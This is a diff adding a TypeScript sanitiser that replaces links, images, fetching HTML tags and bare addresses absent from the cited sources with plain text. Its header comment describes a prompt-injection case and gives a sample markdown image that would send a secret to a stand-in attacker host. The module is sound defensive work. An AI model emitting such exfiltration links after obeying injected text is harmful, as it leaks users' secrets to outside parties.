@@ -1,0 +1,62 @@
+/**
+ * Links and images whose address stands in none of the sources become plain text. A model that
+ * obeys an injected document could otherwise have a chat client fetch
+ * `![x](https://evil.example/?d=secret)`, or lead a reader astray.
+ */
+import { quietPlaces } from "./quiet-places.js";
+
+/** A replacement for `text.slice(start, end)`. */
+export interface Edit {
+  readonly start: number;
+  readonly end: number;
+  readonly text: string;
+}
+
+const URL = '(?:https?:\\/\\/|www\\.|ftp:\\/\\/|mailto:)[^\\s<>`"“”)\\]]{1,1500}';
+/**
+ * 1 label and 2 address of a link or an image; 3 label and 4 address of a link definition;
+ * 5 address between angle brackets; 6 a tag that fetches or links; 7 a bare address.
+ */
+const LINK = new RegExp(
+  `!?\\[([^\\]\\n]{0,300})\\]\\(\\s{0,5}<?([^\\s)>]{1,1500})>?[^)\\n]{0,300}\\)` +
+    `|(?<=^|\\n)[^\\S\\n]{0,3}\\[([^\\]\\n]{1,300})\\]:[^\\S\\n]{1,5}<?((?:[a-z]{2,10}:|\\/\\/|www\\.)[^\\s>]{1,1500})>?` +
+    `|<((?:[a-z]{2,10}:|[^\\s<>@]{1,64}@)[^\\s<>]{1,1500})>` +
+    `|(<[a-z][^<>]{0,60}?\\b(?:src|srcset|href|action|poster|data|style|background|on[a-z]{2,20})\\s{0,5}=[^<>]{0,1500}>)` +
+    `|(${URL}|(?<![\\p{L}\\p{N}._%+-])[\\p{L}\\p{N}._%+-]{1,64}@[\\p{L}\\p{N}-]{1,63}(?:\\.[\\p{L}\\p{N}-]{2,63}){1,5})`,
+  "giu",
+);
+
+/** @param sources texts and addresses of the evidence that may be linked to */
+export function foreignLinks(text: string, sources: readonly string[]): Edit[] {
+  const isQuiet = quietPlaces(text);
+  return [...text.matchAll(LINK)].flatMap((match): Edit[] => {
+    const [whole, label, target, defined, definedAs, angled, tag, bare] = match;
+    const start = match.index;
+    if (isQuiet(start)) return [];
+    const trimmed = bare?.replace(/[.,;:!?'*_]+$/u, "");
+    const address = target ?? definedAs ?? angled ?? trimmed;
+    if (address !== undefined && sources.some((source) => source.includes(address))) return [];
+    const end = start + (trimmed ?? whole).length;
+    if (label !== undefined) return [{ start, end, text: label }];
+    if (tag !== undefined) return [{ start, end, text: "" }];
+    const shown = `\`${address?.replaceAll("`", "'") ?? ""}\``;
+    return [{ start, end, text: defined === undefined ? shown : `${defined}: ${shown}` }];
+  });
+}
+
+/** Applies edits that lie within `from` to `to`; of two that overlap the first holds. */
+export function applyEdits(
+  text: string,
+  edits: readonly Edit[],
+  from = 0,
+  to = text.length,
+): string {
+  let out = "";
+  let at = from;
+  for (const edit of [...edits].sort((a, b) => a.start - b.start)) {
+    if (edit.start < at || edit.end > to) continue;
+    out += text.slice(at, edit.start) + edit.text;
+    at = edit.end;
+  }
+  return out + text.slice(at, to);
+}
